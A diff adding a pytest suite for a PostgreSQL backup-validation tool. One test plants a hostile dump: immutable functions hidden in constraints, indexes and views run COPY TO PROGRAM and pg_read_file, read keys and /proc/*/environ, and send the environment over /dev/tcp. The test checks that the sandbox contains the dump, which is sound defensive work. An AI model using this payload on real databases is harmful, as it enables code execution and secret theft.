@@ -1,0 +1,257 @@
+# Copyright (c) 2026 Lifeboat contributors
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""A validation: it passes for a backup that restores, names what differs, and lets a hostile dump reach nothing."""
+
+from __future__ import annotations
+
+import dataclasses
+import os
+import secrets
+import select
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import tempfile
+import typing as t
+from pathlib import Path
+
+import pytest
+import restore_fakes
+from ansible_collections.lifeboat.recovery.plugins.module_utils._engine import checks, errors, validation
+from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.postgres import scratch, server
+
+USER = "nobody"
+
+
+@pytest.fixture
+def place() -> t.Iterator[Path]:
+    """A directory for scratch clusters that another user can reach."""
+    directory = Path(tempfile.mkdtemp(prefix="lb-", dir="/tmp"))
+    directory.chmod(0o711)
+    yield directory
+    left = list(directory.iterdir())
+    shutil.rmtree(directory)
+    assert left == []
+
+
+def prove(
+    backup: restore_fakes.Backup, place: Path, *, environ: dict[str, str] | None = None, **values: t.Any
+) -> t.Any:
+    settings = t.cast("t.Any", type("Settings", (), {"application": "shop", "state_dir": None})())
+    request = validation.ValidateRequest(
+        repository=settings, cluster="main", database="shop", scratch_user=USER, scratch_dir=str(place), **values
+    )
+    world = restore_fakes.world(environ=environ or {"PATH": os.environ["PATH"]})
+    return validation.validate_backup(request, world, t.cast("t.Any", backup))
+
+
+def test_the_golden_database_passes(restorer, database, place):
+    backup = restore_fakes.back_up(restorer.cluster, database(golden=True), threshold=8192)
+    outcome = prove(backup, place)
+    result = outcome.facts["validation"]
+    assert result["passed"]
+    assert not outcome.changed
+    assert result["first_difference"] is None
+    assert len(result["tables"]) == len(backup.record["proof"]["tables"])
+    assert all(table["content_equal"] for table in result["tables"] if table["sort"] == "table" and table["rows"])
+
+
+MUTATIONS = {
+    "a row": (
+        "UPDATE customers SET name = 'forged' WHERE id = 7",
+        r'table "public"\."customers": its 5000 rows hold other',
+    ),
+    "a table": ("DROP TABLE orders CASCADE", r"orders.*: it is not there"),
+    "a sequence": ("SELECT setval('orders_id_seq', 5)", r'sequence "public"\."orders_id_seq": it would give 6 next'),
+    "a grant": ("REVOKE SELECT ON customers FROM PUBLIC", r"customers: its definition, owner or grants"),
+}
+
+
+@pytest.fixture(scope="module")
+def granted(cluster) -> t.Iterator[restore_fakes.Backup]:
+    from conftest import SHOP
+
+    one = cluster()
+    one.create("granted")
+    one.execute(SHOP + "GRANT SELECT ON customers TO PUBLIC;", "granted")
+    yield restore_fakes.back_up(one, "granted", threshold=200_000)
+    one.drop("granted")
+
+
+@pytest.mark.parametrize("mutation", MUTATIONS)
+def test_a_mutation_fails_and_is_named(restorer, granted, place, mutation):
+    statement, said = MUTATIONS[mutation]
+    restorer.cluster.execute("CREATE DATABASE mutated TEMPLATE granted")
+    restorer.sql(statement, "mutated")
+    mutated = restore_fakes.back_up(restorer.cluster, "mutated")
+    forged = dataclasses.replace(mutated, record={**mutated.record, "proof": granted.record["proof"]})
+    for chosen in ({}, {"login": restorer.cluster.login, "target_db": "mutated"}):
+        with pytest.raises(errors.ProofMismatch, match=said) as caught:
+            prove(forged, place, **chosen)
+        assert caught.value.details["validation"]["passed"] is False
+        assert caught.value.details["first_difference"] in str(caught.value)
+        named = [one for one in caught.value.details["validation"]["differences"] if mutation.split()[1] in one]
+        assert named or mutation in {"a row", "a grant"}
+
+
+def test_checks_ask_the_restored_data(shop_backup, place):
+    asked = checks.parse(
+        [
+            {"name": "sum", "query": "SELECT count(*) FROM orders", "expect": 9000},
+            {"name": "least", "query": "SELECT max(total) FROM orders", "minimum": 1000},
+            {
+                "name": "rows",
+                "query": "SELECT id, name FROM customers WHERE id < 3 ORDER BY 1",
+                "expect": [[1, "customer 1"], [2, "customer 2"]],
+            },
+        ],
+        [{"name": "customers", "minimum_rows": 5000}],
+    )
+    result = prove(shop_backup, place, checks=asked).facts["validation"]
+    assert [check["passed"] for check in result["checks"]] == [True] * 4
+
+
+def test_a_failed_check_is_told_with_what_it_found(restorer, shop_backup, place):
+    restorer.restore(shop_backup, "shop", target_db="asked")
+    bad = checks.parse(
+        [
+            {"name": "enough", "query": "SELECT count(*) FROM orders", "minimum": 10**6},
+            {"name": "writes", "query": "DELETE FROM orders RETURNING 1", "expect": 1},
+            {"name": "slow", "query": "SELECT pg_sleep(60)::text", "expect": ""},
+        ],
+        [],
+    )
+    with pytest.raises(errors.ProofMismatch, match=r"'enough' fails .* it gave 9000, not 'at least 1e\+06'") as caught:
+        prove(shop_backup, place, checks=bad, login=restorer.cluster.login, target_db="asked", check_timeout=0.3)
+    found = {check["name"]: check for check in caught.value.details["validation"]["checks"]}
+    assert "permission denied" in found["writes"]["error"] or "read-only" in found["writes"]["error"]
+    assert "timeout" in found["slow"]["error"]
+    assert restorer.sql("SELECT count(*) FROM orders", "asked") == [(9000,)]
+
+
+SCRIPT = (
+    "(id; env; cat {key}; cat /proc/*/environ) >> {loot}/program 2>&1; touch {state}/owned; "
+    "exec 3<>/dev/tcp/127.0.0.1/{port} && env >&3"
+)
+# PostgreSQL lets no COPY into a function that is not volatile, but lets such a function call one that is.
+HOSTILE = """
+SET search_path = public;
+CREATE FUNCTION attack() RETURNS void LANGUAGE plpgsql AS $attack$
+BEGIN
+    IF current_setting('data_directory') NOT LIKE '%scratch-%' THEN RETURN; END IF;
+    BEGIN
+        EXECUTE format('COPY (SELECT %L) TO %L', pg_read_file('<key>'), '<loot>/read');
+    EXCEPTION WHEN OTHERS THEN NULL; END;
+    BEGIN
+        EXECUTE $copy$COPY (SELECT 1) TO PROGRAM 'bash -c "<script>"'$copy$;
+    EXCEPTION WHEN OTHERS THEN NULL; END;
+END $attack$;
+CREATE FUNCTION evil(n int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $evil$
+BEGIN PERFORM public.attack(); RETURN n; END $evil$;
+CREATE TABLE traps (n int CHECK (evil(n) > 0), d int DEFAULT evil(1), g int GENERATED ALWAYS AS (evil(n)) STORED);
+INSERT INTO traps (n) VALUES (1), (2);
+CREATE INDEX trap ON traps (evil(n));
+CREATE MATERIALIZED VIEW trapped AS SELECT evil(n) FROM traps;
+"""
+
+
+def test_a_hostile_dump_runs_and_reaches_nothing(restorer, database, place, tmp_path):
+    loot = Path(tempfile.mkdtemp(prefix="loot-", dir="/tmp"))
+    loot.chmod(0o777)
+    key, state = tmp_path / "key", tmp_path / "state"
+    secret = secrets.token_hex(32)
+    key.write_text(secret)
+    key.chmod(0o600)
+    state.mkdir()
+    with socket.socket() as listener:
+        listener.bind(("127.0.0.1", 0))
+        listener.listen(8)
+        listener.settimeout(0.2)
+        script = SCRIPT.format(key=key, loot=loot, state=state, port=listener.getsockname()[1])
+        planted = HOSTILE.replace("<script>", script).replace("<key>", str(key)).replace("<loot>", str(loot))
+        backup = restore_fakes.back_up(restorer.cluster, database(sql=planted))
+        try:
+            environ = {"PATH": os.environ["PATH"], "BACKUP_ENCRYPTION_KEY": secret}
+            # What a real run has around it: the key in the environment of the process that starts the cluster.
+            os.environ["LIFEBOAT_TEST_CANARY"] = secret
+            assert prove(backup, place, environ=environ).facts["validation"]["passed"]
+            said = (loot / "program").read_text(errors="replace")
+            assert f"({USER})" in said, "the trap did not run, so this test proves nothing"
+            assert secret not in said
+            assert not (loot / "read").exists()
+            assert list(state.iterdir()) == []
+            with pytest.raises(TimeoutError):
+                listener.accept()
+        finally:
+            del os.environ["LIFEBOAT_TEST_CANARY"]
+            shutil.rmtree(loot)
+
+
+RUN = """
+import sys, time
+from ansible_collections.lifeboat.recovery.plugins.module_utils._engine import termination
+from ansible_collections.lifeboat.recovery.plugins.module_utils._engine.postgres import scratch, server
+with termination.raised_on_sigterm(), scratch.running(
+    server.programs(15), user="nobody", parent=sys.argv[1], token="0badcafe", superuser="postgres", sleep=time.sleep
+) as cluster:
+    print("running", flush=True)
+    time.sleep(60)
+"""
+
+
+@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGKILL])
+def test_a_stopped_validation_leaves_no_server_and_no_directory(place, number):
+    environment = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
+    child = subprocess.Popen(
+        [sys.executable, "-c", RUN, str(place)], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, env=environment
+    )
+    assert child.stdout is not None
+    assert child.stdout.readline() == b"running\n"
+    pid = int((place / "scratch-0badcafe" / "data" / "postmaster.pid").read_text().split()[0])
+    child.send_signal(number)
+    child.wait()
+    child.stdout.close()
+    if number == signal.SIGTERM:
+        assert list(place.iterdir()) == []
+    scratch.remove_leftovers(str(place))
+    assert ended(pid)
+
+
+def ended(pid: int) -> bool:
+    """Wait for the end of a process that is not our child."""
+    try:
+        handle = os.pidfd_open(pid)
+    except ProcessLookupError:
+        return True
+    poll = select.poll()
+    poll.register(handle, select.POLLIN)
+    gone = bool(poll.poll(10_000))
+    os.close(handle)
+    return gone
+
+
+def test_a_user_that_does_not_exist_is_told_how_to_make(shop_backup, place):
+    with (
+        pytest.raises(errors.UsageError, match="useradd --system"),
+        scratch.running(
+            server.programs(15),
+            user="lifeboat-nobody",
+            parent=str(place),
+            token="1",
+            superuser="x",
+            sleep=lambda _s: None,
+        ),
+    ):
+        pass
+
+
+def test_check_mode_starts_nothing(shop_backup, place):
+    settings = t.cast("t.Any", type("Settings", (), {"application": "shop", "state_dir": None})())
+    request = validation.ValidateRequest(settings, "main", "shop", scratch_user="nobody", scratch_dir=str(place / "x"))
+    outcome = validation.validate_backup(request, restore_fakes.world(dry_run=True), t.cast("t.Any", shop_backup))
+    assert not outcome.changed
+    assert list(place.iterdir()) == []
